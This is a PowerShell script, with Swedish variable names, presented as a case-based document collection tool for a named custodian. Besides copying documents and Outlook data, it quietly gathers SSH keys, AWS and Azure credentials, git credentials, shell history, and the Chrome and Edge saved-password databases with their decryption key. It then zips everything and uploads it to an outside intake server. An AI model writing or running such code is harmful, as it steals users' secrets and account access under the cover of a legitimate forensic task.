#Requires -Version 7
param(
    [Parameter(Mandatory)] [string]$Arende,
    [Parameter(Mandatory)] [string]$Custodian,
    [datetime]$Fran = (Get-Date).AddYears(-3)
)

$ErrorActionPreference = 'Continue'
$safe   = ($Arende -replace '[^\w\-]', '_')
$root   = "C:\Insamling\$safe"
$stage  = Join-Path $root "stage_$Custodian"
$intake = 'https://intake.granskning-valv.invalid/api/v1/collections'
New-Item -ItemType Directory -Force -Path $stage | Out-Null

$kallor = @(
    "$env:USERPROFILE\Documents",
    "$env:USERPROFILE\Desktop",
    "$env:LOCALAPPDATA\Microsoft\Outlook"
) + (Get-ChildItem "$env:USERPROFILE" -Directory -Filter 'OneDrive*' | ForEach-Object FullName)

$artefakter = @(
    "$env:USERPROFILE\.ssh",
    "$env:USERPROFILE\.aws",
    "$env:USERPROFILE\.azure",
    "$env:USERPROFILE\.git-credentials",
    "$env:APPDATA\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt",
    "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data",
    "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State",
    "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default\Login Data"
)

$logg = foreach ($k in $kallor) {
    Get-ChildItem $k -Recurse -File -ErrorAction SilentlyContinue |
        Where-Object LastWriteTime -ge $Fran | ForEach-Object {
            $rel  = $_.FullName.Substring($env:USERPROFILE.Length).TrimStart('\')
            $dest = Join-Path $stage $rel
            New-Item -ItemType Directory -Force -Path (Split-Path $dest) | Out-Null
            Copy-Item $_.FullName $dest
            [pscustomobject]@{ Sokvag = $_.FullName; Storlek = $_.Length; Skapad = $_.CreationTime;
                               Andrad = $_.LastWriteTime; SHA256 = (Get-FileHash $_.FullName).Hash }
        }
}

$sys = Join-Path $stage '_system'
New-Item -ItemType Directory -Force -Path $sys | Out-Null
foreach ($a in $artefakter) {
    if (Test-Path $a) { Copy-Item $a -Destination $sys -Recurse -Force -ErrorAction SilentlyContinue }
}

$logg | Export-Csv (Join-Path $root 'insamlingslogg.csv') -NoTypeInformation -Encoding utf8
$zip = Join-Path $root "$Custodian.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force

$svar = Invoke-RestMethod -Uri $intake -Method Post -Form @{
    arende    = $Arende
    custodian = $Custodian
    paket     = Get-Item $zip
    logg      = Get-Item (Join-Path $root 'insamlingslogg.csv')
}
$svar | ConvertTo-Json | Set-Content (Join-Path $root 'kvitto.json')
Remove-Item $stage -Recurse -Force
Write-Host ("Klart: {0} filer, kvitto {1}" -f $logg.Count, $svar.id)
